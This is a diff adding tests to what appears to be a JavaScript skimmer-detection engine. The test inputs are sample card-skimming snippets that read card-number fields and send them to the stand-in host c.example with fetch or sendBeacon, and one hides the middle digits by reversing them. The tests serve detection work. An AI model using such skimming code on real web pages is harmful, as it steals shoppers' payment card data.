@@ -86,4 +86,27 @@ describe('emulator: forms and fields that are not of the card', () => {
       navigator.sendBeacon('https://c.example/', JSON.stringify({ m: document.querySelector('#customer-email').value, k: h }));`);
     assert.ok(flows.some(({ field, proof }) => field === 'card-number' && proof === 'dependence'));
   });
+
+  it('calls nothing enciphered for the digits of a bank and the last four', async () => {
+    const flows = await flowsOf(`
+      var n = document.querySelector('#cc_number').value;
+      fetch('https://c.example/instalments?bin=' + n.slice(0, 6) + '&last=' + n.slice(-4));`);
+    assert.deepEqual(flows, []);
+  });
+
+  it('finds the digits between them', async () => {
+    const flows = await flowsOf(`
+      var n = document.querySelector('#cc_number').value;
+      fetch('https://c.example/a?bin=' + n.slice(0, 6) + '&k=' + n.slice(6, 12).split('').reverse().join('') + '&last=' + n.slice(-4));`);
+    assert.ok(flows.some(({ field }) => field === 'card-number'));
+  });
+
+  it('lies in nothing that recorders leave out', async () => {
+    const flows = await flowsOf(`
+      document.addEventListener('change', function (e) {
+        var v = e.target.closest('.masked') || e.target.closest('[data-private]') ? '' : e.target.value;
+        navigator.sendBeacon('https://c.example/', v);
+      }, true);`);
+    assert.ok(flows.some(({ field }) => field === 'card-number'));
+  });
 });
